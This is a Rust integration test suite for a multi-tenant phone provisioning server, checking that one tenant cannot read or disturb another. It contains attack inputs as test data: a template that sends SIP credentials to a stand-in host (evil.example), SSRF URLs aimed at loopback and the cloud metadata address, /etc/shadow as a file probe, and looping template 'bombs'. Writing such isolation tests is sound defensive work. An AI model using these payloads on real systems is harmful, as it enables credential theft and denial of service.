//! Tenants are untrusted: attacks by one tenant's tokens on another tenant,
//! against the real binary, on SQLite and on PostgreSQL. Each attack must
//! fail with a clear 4xx, and nothing of the other tenant (its name, its
//! phones' labels, names or passwords) may appear in any response or in the
//! node's log.

mod common;

use std::time::Duration;

use common::*;
use dialtone_sync::testing::TestDb;
use reqwest::Method;
use serde_json::{json, Value};

const ACME_PHONE: &str = "001565a00001";
const GLOBEX_PHONE: &str = "001565b00001";
/// What globex has that acme must never see.
const GLOBEX_SECRETS: [&str; 4] = [
    "Globex Corporation",
    "Hank's desk",
    "Hank Scorpio",
    "globex-sip-password",
];

struct Tenants {
    _dir: tempfile::TempDir,
    url: String,
    server: Server,
    global: Api,
    acme_admin: Api,
    acme_read: Api,
    globex_admin: Api,
}

impl Tenants {
    async fn new(url: String, dir: tempfile::TempDir, env: &[(&str, &str)]) -> Tenants {
        let tenants = write_file(
            dir.path(),
            "tenants.csv",
            "slug,name,default_region\nacme,Acme Inc,US\nglobex,Globex Corporation,US\n",
        );
        let phones = write_file(
            dir.path(),
            "phones.csv",
            &format!(
                "tenant,mac,family,model,line,extension,display_name,password,registrar\n\
                 acme,{ACME_PHONE},yealink,T46S,1,100,Alice Example,acme-sip-password,sip.acme.example\n\
                 globex,{GLOBEX_PHONE},yealink,T46S,1,200,Hank Scorpio,globex-sip-password,sip.globex.example\n"
            ),
        );
        let mut cmd = dialtone(dir.path(), &url);
        cmd.arg("import").arg(&tenants).arg(&phones);
        let out = run(cmd);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let server = Server::start_with_env(dir.path(), &url, &[], env);
        let token = |args: &[&str]| create_token(dir.path(), &url, args);
        let global = Api::new(
            server.addr,
            token(&["--scope", "global-admin", "--name", "ops"]),
        );
        let acme_admin = Api::new(
            server.addr,
            token(&["--scope", "tenant-admin", "--tenant", "acme", "--name", "a"]),
        );
        let acme_read = Api::new(
            server.addr,
            token(&["--scope", "tenant-read", "--tenant", "acme", "--name", "r"]),
        );
        let globex_admin = Api::new(
            server.addr,
            token(&[
                "--scope",
                "tenant-admin",
                "--tenant",
                "globex",
                "--name",
                "g",
            ]),
        );
        let t = Tenants {
            _dir: dir,
            url,
            server,
            global,
            acme_admin,
            acme_read,
            globex_admin,
        };
        // The tokens reached the node through the change log.
        for _ in 0..200 {
            if t.globex_admin
                .send(Method::GET, "/v1/phones", None, None)
                .await
                .0
                == 200
                && t.acme_read
                    .send(Method::GET, "/v1/phones", None, None)
                    .await
                    .0
                    == 200
            {
                break;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        // Hank's phone gets a label only globex knows.
        let (status, _, phone) = t
            .globex_admin
            .send(
                Method::PUT,
                &format!("/v1/phones/{GLOBEX_PHONE}"),
                Some(
                    json!({ "tenant": "globex", "family": "yealink", "model": "T46S",
                    "label": "Hank's desk",
                    "lines": [{ "extension": "200", "display_name": "Hank Scorpio",
                                "registrar": "sip.globex.example" }] }),
                ),
                None,
            )
            .await;
        assert_eq!(status, 200, "{phone}");
        t
    }

    /// A template check may be made with a read token; saving needs admin.
    fn acme_read_or_admin(&self, path: &str) -> &Api {
        if path.ends_with("/validate") {
            &self.acme_read
        } else {
            &self.acme_admin
        }
    }

    /// Nothing of globex in anything acme's tokens were answered, nor in
    /// the log.
    fn assert_no_globex_reached_acme(&self) {
        for api in [&self.acme_admin, &self.acme_read] {
            let seen = api.seen.lock().unwrap();
            for secret in GLOBEX_SECRETS {
                assert!(!seen.contains(secret), "acme was shown {secret:?}: {seen}");
            }
        }
        let log = self.server.stderr();
        assert!(
            !log.contains("globex-sip-password"),
            "a password in the log"
        );
    }
}

async fn sqlite() -> Tenants {
    let dir = tempfile::tempdir().unwrap();
    let url = sqlite_url(dir.path());
    Tenants::new(url, dir, &[]).await
}

async fn postgres() -> (TestDb, Tenants) {
    postgres_with(&[]).await
}

async fn postgres_with(env: &[(&str, &str)]) -> (TestDb, Tenants) {
    let db = TestDb::postgres().await;
    let url = db.url.clone();
    (
        db,
        Tenants::new(url, tempfile::tempdir().unwrap(), env).await,
    )
}

/// Item 1: a template check with another tenant's phone as its sample is
/// answered exactly like one with a phone that does not exist.
async fn sample_phones_of_another_tenant_do_not_exist(t: Tenants) {
    let probe =
        "{{ throw(message=(tenant|string) ~ \" | \" ~ phone.label ~ \" | \" ~ (lines|string)) }}";
    let ask = |mac: &str| {
        json!({ "scope": "tenant", "tenant": "acme", "family": "yealink",
                "file_pattern": "{mac}.cfg", "body": probe, "sample_mac": mac })
    };
    let (status, _, theirs) = t
        .acme_read
        .send(
            Method::POST,
            "/v1/templates/validate",
            Some(ask(GLOBEX_PHONE)),
            None,
        )
        .await;
    let (status_none, _, none) = t
        .acme_read
        .send(
            Method::POST,
            "/v1/templates/validate",
            Some(ask("001565ffffff")),
            None,
        )
        .await;
    assert_eq!(status, 422, "{theirs}");
    assert_eq!(status_none, 422);
    let generic = |v: &Value| {
        v.to_string()
            .replace(GLOBEX_PHONE, "MAC")
            .replace("001565ffffff", "MAC")
    };
    assert_eq!(
        generic(&theirs),
        generic(&none),
        "another tenant's MAC must look absent"
    );
    // The same for a phone-scope key, a preview, the files and the history.
    let phone_scope = json!({ "scope": "phone", "mac": GLOBEX_PHONE, "family": "yealink",
                              "file_pattern": "{mac}.cfg", "body": "x" });
    let (status, _, body) = t
        .acme_admin
        .send(Method::POST, "/v1/templates", Some(phone_scope), None)
        .await;
    assert_eq!(status, 422, "{body}");
    for (method, path, body) in [
        (
            Method::POST,
            "/v1/preview".to_string(),
            Some(json!({ "mac": GLOBEX_PHONE })),
        ),
        (
            Method::GET,
            format!("/v1/phones/{GLOBEX_PHONE}/files"),
            None,
        ),
        (
            Method::GET,
            format!("/v1/phones/{GLOBEX_PHONE}/history"),
            None,
        ),
        (Method::GET, format!("/v1/phones/{GLOBEX_PHONE}"), None),
    ] {
        let (status, _, answer) = t.acme_read.send(method, &path, body, None).await;
        assert_eq!(status, 404, "{path}: {answer}");
    }
    t.assert_no_globex_reached_acme();
}

/// Item 2: a phone-scope template dies with its phone; the next owner of
/// the MAC gets none of it, nor the previous owner's fetch history.
async fn a_phone_template_never_outlives_its_phone(t: Tenants) {
    const X: &str = "001565c0ffee";
    let phone = |tenant: &str| {
        json!({ "mac": X, "tenant": tenant, "family": "yealink", "model": "T46S",
                "lines": [{ "extension": "300", "display_name": "Desk X",
                            "registrar": "sip.example.net", "password": "x-sip-password" }] })
    };
    let (status, _, answer) = t
        .acme_admin
        .send(Method::POST, "/v1/phones", Some(phone("acme")), None)
        .await;
    assert_eq!(status, 201, "{answer}");
    let steal = "#!version:1.0.0.1\nstatic.firmware.url = http://evil.example/{% for l in lines %}{{ l.auth_user }}:{{ l.password }}{% endfor %}\n";
    let (status, _, answer) = t
        .acme_admin
        .send(
            Method::POST,
            "/v1/templates",
            Some(json!({ "scope": "phone", "mac": X, "family": "yealink",
                         "file_pattern": "{mac}.cfg", "body": steal })),
            None,
        )
        .await;
    assert_eq!(status, 201, "{answer}");
    // The phone fetches once while acme's: that is acme's history.
    let file = format!("/{X}.cfg");
    let served = http_get(t.server.prov_addr, &file).unwrap().1;
    assert!(served.contains("evil.example"), "{served}");
    let (status, _, _) = t
        .acme_admin
        .send(Method::DELETE, &format!("/v1/phones/{X}"), None, None)
        .await;
    assert_eq!(status, 204);
    let (status, _, answer) = t
        .globex_admin
        .send(Method::POST, "/v1/phones", Some(phone("globex")), None)
        .await;
    assert_eq!(status, 201, "{answer}");
    let served = http_get(t.server.prov_addr, &file).unwrap().1;
    assert!(
        !served.contains("evil.example"),
        "acme's template reached globex: {served}"
    );
    let (_, _, list) = t
        .globex_admin
        .send(Method::GET, "/v1/templates", None, None)
        .await;
    assert!(!list.to_string().contains("evil.example"), "{list}");
    // History is written in batches: wait for globex's fetch to land.
    let mut history = Value::Null;
    for _ in 0..200 {
        let (status, _, answer) = t
            .globex_admin
            .send(Method::GET, &format!("/v1/phones/{X}/history"), None, None)
            .await;
        assert_eq!(status, 200, "{answer}");
        history = answer;
        if history.as_array().is_some_and(|h| !h.is_empty()) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(
        history.as_array().map(Vec::len),
        Some(1),
        "globex sees only its own fetch (the one just made): {history}"
    );

    // A global admin moving a phone to another tenant drops its templates.
    let (status, _, answer) = t
        .globex_admin
        .send(
            Method::POST,
            "/v1/templates",
            Some(json!({ "scope": "phone", "mac": X, "family": "yealink",
                         "file_pattern": "{mac}.cfg", "body": "#!version:1.0.0.1\n# globex only\n" })),
            None,
        )
        .await;
    assert_eq!(status, 201, "{answer}");
    let (status, _, answer) = t
        .global
        .send(
            Method::PUT,
            &format!("/v1/phones/{X}"),
            Some(phone("acme")),
            None,
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    let served = http_get(t.server.prov_addr, &file).unwrap().1;
    assert!(!served.contains("globex only"), "{served}");
    let (_, _, list) = t
        .global
        .send(Method::GET, "/v1/templates?scope=phone", None, None)
        .await;
    assert_eq!(list["items"].as_array().map(Vec::len), Some(0), "{list}");

    // A tenant that reuses a deleted tenant's slug reads none of its audit
    // trail.
    let (status, _, answer) = t
        .global
        .send(Method::DELETE, "/v1/tenants/globex?force=true", None, None)
        .await;
    assert_eq!(status, 204, "{answer}");
    let (status, _, answer) = t
        .global
        .send(
            Method::POST,
            "/v1/tenants",
            Some(json!({ "slug": "globex", "name": "New Globex" })),
            None,
        )
        .await;
    assert_eq!(status, 201, "{answer}");
    let heir = Api::new(
        t.server.addr,
        create_token(
            t._dir.path(),
            &t.url,
            &[
                "--scope",
                "tenant-admin",
                "--tenant",
                "globex",
                "--name",
                "heir",
            ],
        ),
    );
    let mut audit = (0, String::new(), Value::Null);
    for _ in 0..200 {
        audit = heir.send(Method::GET, "/v1/audit", None, None).await;
        if audit.0 == 200 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(audit.0, 200, "{}", audit.2);
    // Only its own creation and its token's: nothing of the phones,
    // templates and deletion of the globex before it.
    let items = audit.2["items"].as_array().cloned().unwrap_or_default();
    let own = |item: &Value| {
        item["action"] == "create"
            && (item["entity"] == "tenant"
                || (item["entity"] == "api_token" && item["entity_key"] == "heir"))
    };
    assert!(
        items.len() == 2 && items.iter().all(own),
        "the new globex reads the old one's audit trail: {}",
        audit.2
    );
    t.assert_no_globex_reached_acme();
}

/// Item 6: two creates of one MAC, by two tenants at once: one wins, the
/// other gets a 409 that names no tenant, and the winner keeps the phone.
async fn a_mac_is_created_once(t: Tenants) {
    for round in 0..5 {
        let mac = format!("0015650d{round:04x}");
        let phone = |tenant: &str| json!({ "mac": mac, "tenant": tenant, "family": "yealink", "model": "T46S", "label": tenant });
        let (a, g) = tokio::join!(
            t.acme_admin
                .send(Method::POST, "/v1/phones", Some(phone("acme")), None),
            t.globex_admin
                .send(Method::POST, "/v1/phones", Some(phone("globex")), None),
        );
        let mut statuses = [a.0, g.0];
        statuses.sort();
        assert_eq!(statuses, [201, 409], "round {round}: {} / {}", a.2, g.2);
        let (winner, loser) = if a.0 == 201 { (&a, &g) } else { (&g, &a) };
        let loser_text = loser.2.to_string();
        assert!(
            !loser_text.contains("acme") && !loser_text.contains("globex"),
            "the 409 names a tenant: {loser_text}"
        );
        let (_, _, now) = t
            .global
            .send(Method::GET, &format!("/v1/phones/{mac}"), None, None)
            .await;
        assert_eq!(now["tenant"], winner.2["tenant"], "round {round}: {now}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sample_phones_of_another_tenant_do_not_exist_on_sqlite() {
    sample_phones_of_another_tenant_do_not_exist(sqlite().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sample_phones_of_another_tenant_do_not_exist_on_postgresql() {
    let (_db, t) = postgres().await;
    sample_phones_of_another_tenant_do_not_exist(t).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_phone_template_never_outlives_its_phone_on_sqlite() {
    a_phone_template_never_outlives_its_phone(sqlite().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_phone_template_never_outlives_its_phone_on_postgresql() {
    let (_db, t) = postgres().await;
    a_phone_template_never_outlives_its_phone(t).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mac_is_created_once_on_sqlite() {
    a_mac_is_created_once(sqlite().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mac_is_created_once_on_postgresql() {
    let (_db, t) = postgres().await;
    a_mac_is_created_once(t).await;
}

/// Item 4: a tenant's directory source cannot reach the node itself, the
/// metadata service or loopback, nor make the node read a file; the test
/// call says only what a lookup would.
async fn sources_reach_only_what_the_operator_allows(t: Tenants, loopback_allowed: bool) {
    let api_port = t.server.addr.port();
    let source = |name: String, url: String| {
        json!({ "name": name, "kind": "http", "timeout_ms": 1000,
                "settings": { "url": url, "format": "text" } })
    };
    let mut urls = vec![
        format!("http://127.0.0.1:{api_port}/readyz?n={{digits}}"),
        format!("http://localhost:{api_port}/readyz?n={{digits}}"),
        format!("http://[::ffff:127.0.0.1]:{api_port}/readyz?n={{digits}}"),
        format!(
            "http://127.0.0.1:{}/metrics?n={{digits}}",
            t.server.prov_addr.port()
        ),
    ];
    if !loopback_allowed {
        urls.push("http://169.254.169.254/latest/meta-data/?n={digits}".into());
        urls.push("http://10.0.0.1/?n={digits}".into());
    }
    for (i, url) in urls.into_iter().enumerate() {
        let name = format!("probe{i}");
        let (status, _, answer) = t
            .acme_admin
            .send(
                Method::POST,
                "/v1/tenants/acme/directory-sources",
                Some(source(name.clone(), url.clone())),
                None,
            )
            .await;
        assert_eq!(status, 201, "{url}: {answer}");
        let (status, _, report) = t
            .acme_admin
            .send(
                Method::POST,
                &format!("/v1/tenants/acme/directory-sources/{name}/test"),
                Some(json!({ "number": "+15550101234" })),
                None,
            )
            .await;
        assert_eq!(status, 200, "{url}: {report}");
        assert_eq!(report["outcome"], "error", "{url}: {report}");
        assert_eq!(report["error"], "unreachable", "{url}: {report}");
        let text = report.to_string();
        for internal in ["ready", "cursor", "dialtone_", "mirror"] {
            assert!(!text.contains(internal), "{url}: {text}");
        }
    }
    // CA certificates are text stored with the source, never a path.
    for path in ["/etc/shadow", "/dev/zero", "/nonexistent"] {
        let (status, _, answer) = t
            .acme_admin
            .send(
                Method::POST,
                "/v1/tenants/acme/directory-sources",
                Some(json!({ "name": "files", "kind": "ldap", "settings": {
                    "url": "ldaps://dc1.example.net/", "base_dn": "dc=example,dc=net",
                    "ca_file": path } })),
                None,
            )
            .await;
        assert_eq!(status, 422, "{path}: {answer}");
        let text = answer.to_string();
        assert!(
            !text.contains("No such file") && !text.contains("ermission"),
            "{path}: the answer tells whether the file exists: {text}"
        );
    }
    t.assert_no_globex_reached_acme();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sources_reach_only_what_the_operator_allows_on_sqlite() {
    sources_reach_only_what_the_operator_allows(sqlite().await, false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sources_never_reach_the_node_itself_even_where_loopback_is_allowed() {
    let (_db, t) = postgres_with(&[(
        "DIALTONE_LOOKUP__SOURCE_NETWORKS",
        r#"["public", "127.0.0.0/8"]"#,
    )])
    .await;
    sources_reach_only_what_the_operator_allows(t, true).await;
}

/// The first create is accepted; the next is refused, naming `quota`.
async fn one_then_quota(api: &Api, path: &str, first: Value, next: Value, quota: &str) -> Value {
    let (status, _, created) = api.send(Method::POST, path, Some(first), None).await;
    assert_eq!(status, 201, "{path}: {created}");
    let (status, _, answer) = api.send(Method::POST, path, Some(next), None).await;
    assert_eq!(
        (status, answer["error"]["details"]["quota"].clone()),
        (422, json!(quota)),
        "{path}: {answer}"
    );
    created
}

/// Item 5: a tenant admin grows its tenant only within its quotas, which
/// only a global admin changes; past one, a 422 names it.
async fn a_tenant_grows_only_within_its_quotas(t: Tenants) {
    let quota_of = |answer: &Value| answer["error"]["details"]["quota"].clone();
    let phone = |n: u32, lines: usize| {
        json!({ "mac": format!("0015650e{n:04x}"), "tenant": "acme", "family": "yealink",
                "model": "T46S",
                "lines": (0..lines).map(|i| json!({ "extension": format!("{}", 500 + i),
                    "display_name": "x", "registrar": "sip.example.net" })).collect::<Vec<_>>() })
    };
    // acme has one phone; the quota is two.
    let (status, _, answer) = t
        .acme_admin
        .send(Method::POST, "/v1/phones", Some(phone(1, 1)), None)
        .await;
    assert_eq!(status, 201, "{answer}");
    let (status, _, answer) = t
        .acme_admin
        .send(Method::POST, "/v1/phones", Some(phone(2, 1)), None)
        .await;
    assert_eq!(
        (status, quota_of(&answer)),
        (422, json!("phones")),
        "{answer}"
    );
    let (status, _, answer) = t
        .acme_admin
        .send(
            Method::PUT,
            &format!("/v1/phones/{ACME_PHONE}"),
            Some(json!({
            "tenant": "acme", "family": "yealink", "model": "T46S",
            "lines": phone(0, 3)["lines"] })),
            None,
        )
        .await;
    assert_eq!(
        (status, quota_of(&answer)),
        (422, json!("lines_per_phone")),
        "{answer}"
    );

    // Settings are bounded too: every node holds them.
    let (status, _, answer) = t
        .acme_admin
        .send(
            Method::PUT,
            "/v1/tenants/acme",
            Some(json!({ "name": "Acme Inc", "settings": { "pad": "x".repeat(70_000) } })),
            None,
        )
        .await;
    assert_eq!(status, 422, "{answer}");

    // Its own token cannot raise a quota; a global admin can.
    let (status, _, answer) = t
        .acme_admin
        .send(
            Method::PUT,
            "/v1/tenants/acme",
            Some(json!({ "name": "Acme Inc",
            "settings": { "quotas": { "phones": 1000 } } })),
            None,
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    let (status, _, _) = t
        .acme_admin
        .send(Method::POST, "/v1/phones", Some(phone(2, 1)), None)
        .await;
    assert_eq!(status, 422, "the tenant raised its own quota");
    let (status, _, answer) = t
        .global
        .send(
            Method::PUT,
            "/v1/tenants/acme",
            Some(json!({ "name": "Acme Inc",
            "settings": { "quotas": { "phones": 3, "nonsense": 1 } } })),
            None,
        )
        .await;
    assert_eq!(status, 422, "an unknown quota: {answer}");
    let (status, _, answer) = t
        .global
        .send(
            Method::PUT,
            "/v1/tenants/acme",
            Some(json!({ "name": "Acme Inc",
            "settings": { "quotas": { "phones": 3 } } })),
            None,
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    let (status, _, answer) = t
        .acme_admin
        .send(Method::POST, "/v1/phones", Some(phone(2, 1)), None)
        .await;
    assert_eq!(status, 201, "{answer}");

    // Templates: size, count, and versions kept.
    let template = |pattern: &str, body: String| {
        json!({ "scope": "tenant", "tenant": "acme", "family": "yealink",
                "file_pattern": pattern, "body": body })
    };
    let big = format!("#!version:1.0.0.1\n# {}\n", "x".repeat(2000));
    for path in ["/v1/templates/validate", "/v1/templates"] {
        let (status, _, answer) = t
            .acme_read_or_admin(path)
            .send(
                Method::POST,
                path,
                Some(template("{mac}.cfg", big.clone())),
                None,
            )
            .await;
        assert_eq!(
            (status, quota_of(&answer)),
            (422, json!("template_bytes")),
            "{path}: {answer}"
        );
    }
    let created = one_then_quota(
        &t.acme_admin,
        "/v1/templates",
        template("{mac}.cfg", "#!version:1.0.0.1\n# v1\n".into()),
        template("{mac}.boot", "#!version:1.0.0.1\n".into()),
        "templates",
    )
    .await;
    let (id, mut etag) = (
        created["id"].as_i64().unwrap(),
        created["etag"].as_str().unwrap().to_string(),
    );
    for n in 2..=5 {
        let (status, next, answer) = t
            .acme_admin
            .send(
                Method::PUT,
                &format!("/v1/templates/{id}"),
                Some(json!({ "body": format!("#!version:1.0.0.1\n# v{n}\n") })),
                Some(&etag),
            )
            .await;
        assert_eq!(status, 200, "{answer}");
        etag = next;
    }
    let (_, _, versions) = t
        .acme_admin
        .send(
            Method::GET,
            &format!("/v1/templates/{id}/versions"),
            None,
            None,
        )
        .await;
    let kept: Vec<i64> = versions["items"]
        .as_array()
        .or(versions.as_array())
        .unwrap_or(&Vec::new())
        .iter()
        .filter_map(|v| v["version"].as_i64())
        .collect();
    assert_eq!(
        kept.len(),
        3,
        "the live version and 2 earlier ones: {versions}"
    );

    // Directory entries and sources.
    let entry = |id: &str| {
        json!({ "external_id": id, "name": "Someone",
                "numbers": [{ "number": "+15550100001", "kind": "work" }] })
    };
    let directory = "/v1/tenants/acme/directory";
    one_then_quota(
        &t.acme_admin,
        directory,
        entry("e1"),
        entry("e2"),
        "directory_entries",
    )
    .await;
    let source = |name: &str| {
        json!({ "name": name, "kind": "http",
                "settings": { "url": "https://cnam.example.net/{digits}" } })
    };
    let sources = "/v1/tenants/acme/directory-sources";
    one_then_quota(
        &t.acme_admin,
        sources,
        source("s1"),
        source("s2"),
        "directory_sources",
    )
    .await;
    t.assert_no_globex_reached_acme();
}

const SMALL_QUOTAS: [(&str, &str); 7] = [
    ("DIALTONE_QUOTAS__PHONES", "2"),
    ("DIALTONE_QUOTAS__LINES_PER_PHONE", "2"),
    ("DIALTONE_QUOTAS__TEMPLATES", "1"),
    ("DIALTONE_QUOTAS__TEMPLATE_VERSIONS", "2"),
    ("DIALTONE_QUOTAS__TEMPLATE_BYTES", "1000"),
    ("DIALTONE_QUOTAS__DIRECTORY_ENTRIES", "1"),
    ("DIALTONE_QUOTAS__DIRECTORY_SOURCES", "1"),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tenant_grows_only_within_its_quotas_on_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let url = sqlite_url(dir.path());
    a_tenant_grows_only_within_its_quotas(Tenants::new(url, dir, &SMALL_QUOTAS).await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tenant_grows_only_within_its_quotas_on_postgresql() {
    let (_db, t) = postgres_with(&SMALL_QUOTAS).await;
    a_tenant_grows_only_within_its_quotas(t).await;
}

/// Templates that would run for minutes or until the process aborts.
const BOMBS: [&str; 3] = [
    "{% for i in range(end=100000) %}{% for j in range(end=100000) %}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{{ phone.mac }}{% endfor %}{% endfor %}",
    "{% for i in range(100000) %}{{ phone.mac * 1000 }}{% endfor %}",
];

/// The first packet a TFTP server answers an RRQ with.
fn tftp_first_packet(server: std::net::SocketAddr, file: &str) -> Option<Vec<u8>> {
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").ok()?;
    socket.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    let mut rrq = vec![0, 1];
    rrq.extend_from_slice(file.as_bytes());
    rrq.extend_from_slice(b"\0octet\0");
    socket.send_to(&rrq, server).ok()?;
    let mut buf = [0u8; 1024];
    let (len, _) = socket.recv_from(&mut buf).ok()?;
    Some(buf[..len].to_vec())
}

/// Item 3: a template bomb, checked, previewed or stored and fired by its
/// phone's fetch, stops on its budget with a template error; the other
/// tenant's phone and the server carry on.
async fn render_bombs_stop_on_their_budget(t: Tenants) {
    // Checks and previews (a read token may check): 422 with a position.
    for bomb in BOMBS {
        let validate = json!({ "scope": "tenant", "tenant": "acme", "family": "yealink",
                               "file_pattern": "{mac}.cfg", "body": bomb });
        let preview = json!({ "mac": ACME_PHONE, "file": format!("{ACME_PHONE}.cfg"),
                              "scope": "tenant", "tenant": "acme", "family": "yealink",
                              "file_pattern": "{mac}.cfg", "body": bomb });
        for (api, path, body) in [
            (&t.acme_read, "/v1/templates/validate", validate),
            (&t.acme_admin, "/v1/preview", preview),
        ] {
            let answer = tokio::time::timeout(
                Duration::from_secs(60),
                api.send(Method::POST, path, Some(body), None),
            )
            .await
            .expect("a bomb must not hold a request");
            let (status, _, reply) = answer;
            assert_eq!(status, 422, "{path}: {reply}");
            assert_eq!(reply["error"]["code"], "template_error", "{reply}");
            assert!(reply["error"]["details"]["line"].is_number(), "{reply}");
            assert!(
                reply["error"]["message"]
                    .as_str()
                    .unwrap()
                    .contains("budget"),
                "{reply}"
            );
        }
    }
    // Rebinding names to computed values is refused before anything runs.
    let (status, _, reply) = t
        .acme_read
        .send(
            Method::POST,
            "/v1/templates/validate",
            Some(json!({ "scope": "tenant", "tenant": "acme", "family": "yealink",
                "file_pattern": "{mac}.cfg",
                "body": "{% set s = namespace(v=\"xx\") %}{% for i in range(64) %}{% set s.v = s.v ~ s.v %}{% endfor %}" })),
            None,
        )
        .await;
    assert_eq!(status, 422, "{reply}");
    assert_eq!(reply["error"]["details"]["line"], 1, "{reply}");

    // A stored bomb that fires only for one phone passes its check...
    let guarded = format!(
        "{{% if phone.label == \"boom\" %}}{}{{% endif %}}ok\n",
        BOMBS[0]
    );
    let (status, _, reply) = t
        .acme_admin
        .send(
            Method::POST,
            "/v1/templates",
            Some(
                json!({ "scope": "phone", "mac": ACME_PHONE, "family": "yealink",
                         "file_pattern": "{mac}.cfg", "body": guarded }),
            ),
            None,
        )
        .await;
    assert_eq!(status, 201, "{reply}");
    let (status, _, reply) = t
        .acme_admin
        .send(
            Method::PUT,
            &format!("/v1/phones/{ACME_PHONE}"),
            Some(
                json!({ "tenant": "acme", "family": "yealink", "model": "T46S", "label": "boom",
                "lines": [{ "extension": "100", "display_name": "Alice Example",
                            "registrar": "sip.acme.example" }] }),
            ),
            None,
        )
        .await;
    assert_eq!(status, 200, "{reply}");
    // ...then its phone's fetches fail cleanly, every time, once the edit
    // is live; the other tenant's phone is served all along.
    let prov = t.server.prov_addr;
    let tftp = t.server.tftp_addr;
    let mut failed = 0;
    for _ in 0..100 {
        let http =
            tokio::task::spawn_blocking(move || http_get(prov, &format!("/{ACME_PHONE}.cfg")))
                .await
                .unwrap();
        if http.as_ref().is_some_and(|(status, _)| *status == 500) {
            failed += 1;
            if failed == 3 {
                break;
            }
        } else {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
    assert_eq!(failed, 3, "the bomb never fired");
    let packet =
        tokio::task::spawn_blocking(move || tftp_first_packet(tftp, &format!("{ACME_PHONE}.cfg")))
            .await
            .unwrap()
            .expect("TFTP answers");
    assert_eq!(packet[..2], [0, 5], "a TFTP error packet");
    let theirs =
        tokio::task::spawn_blocking(move || http_get(prov, &format!("/{GLOBEX_PHONE}.cfg")))
            .await
            .unwrap()
            .expect("globex's phone is served");
    assert_eq!(theirs.0, 200);
    assert!(theirs.1.contains("Hank Scorpio"), "{}", theirs.1);
    let theirs =
        tokio::task::spawn_blocking(move || tftp_get(tftp, &format!("{GLOBEX_PHONE}.cfg")))
            .await
            .unwrap()
            .expect("globex's phone is served over TFTP");
    assert!(String::from_utf8_lossy(&theirs).contains("Hank Scorpio"));
    t.assert_no_globex_reached_acme();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn render_bombs_stop_on_their_budget_on_sqlite() {
    render_bombs_stop_on_their_budget(sqlite().await).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn render_bombs_stop_on_their_budget_on_postgresql() {
    let (_db, t) = postgres().await;
    render_bombs_stop_on_their_budget(t).await;
}
